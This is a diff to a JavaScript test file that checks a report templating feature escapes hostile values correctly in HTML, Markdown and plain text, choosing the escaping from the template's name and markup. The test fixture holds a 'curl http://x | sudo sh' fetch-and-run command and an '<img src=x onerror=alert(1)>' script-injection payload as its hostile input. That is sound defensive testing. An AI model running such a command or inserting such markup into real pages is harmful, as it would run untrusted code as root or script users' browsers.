@@ -173,6 +173,16 @@ describe('reports show hostile values as text in every format', () => {
     const template = '{{summary}}|{{{summary}}}|{{style "bold" summary}}';
     expect(customReport(template, 'mine.hbs')(diagnosis)).toBe(`loss\\n## Fake heading\\n**Next checks**\\n\\n\`\`\`sh\\ncurl http://x | sudo sh\\n\`\`\`\\n${IMG}|${hostile.summary}|loss\\n## Fake heading\\n**Next checks**\\n\\n\`\`\`sh\\ncurl http://x | sudo sh\\n\`\`\`\\n${IMG}`);
     expect(customReport('{{code summary}}', 'mine.html')(diagnosis)).toBe('&#x60;&#x60;&#x60;&#x60; loss\\n## Fake heading\\n**Next checks**\\n\\n&#x60;&#x60;&#x60;sh\\ncurl http://x | sudo sh\\n&#x60;&#x60;&#x60;\\n&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; &#x60;&#x60;&#x60;&#x60;');
+    // A copy of a shipped template kept under its name, in a directory or not, escapes as the shipped one.
+    for (const name of ['html.hbs', 'copies/HTML.hbs', 'copies\\htm']) expect(customReport('{{summary}}', name)(diagnosis), name).not.toContain('<img');
+    expect(customReport('{{summary}}', 'reports/markdown.hbs')(diagnosis)).toContain('\\<img src=x onerror=alert(1)\\>');
+    expect(customReport('{{summary}}', 'md.hbs')(diagnosis)).toContain('\\<img src=x onerror=alert(1)\\>');
+    // A name that says neither, over HTML markup: HTML, since a value shown as it is would be markup there.
+    expect(customReport('<!DOCTYPE html><p>{{summary}}</p>', 'report.hbs')(diagnosis)).toContain('&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;');
+    expect(customReport('<div class="x">{{summary}}</div>', 'report.tpl')(diagnosis)).not.toContain('<img');
+    // Near misses: a name that only contains html (xhtml, html-notes.txt) and text about tags stay text.
+    expect(customReport('{{summary}}', 'xhtml.txt')(diagnosis)).toContain('<img');
+    expect(customReport('Tags like <pre or <paragraph are text: {{summary}}', 'notes.txt')(diagnosis)).toContain('<img');
     expect(customReport('| {{cell summary}} |', 'mine.md.hbs')(diagnosis)).toBe('| loss\\n\\#\\# Fake heading\\n\\*\\*Next checks\\*\\*\\n\\n\\`\\`\\`sh\\ncurl http\\://x \\| sudo sh\\n\\`\\`\\`\\n\\<img src=x onerror=alert(1)\\> |');
   });
 });
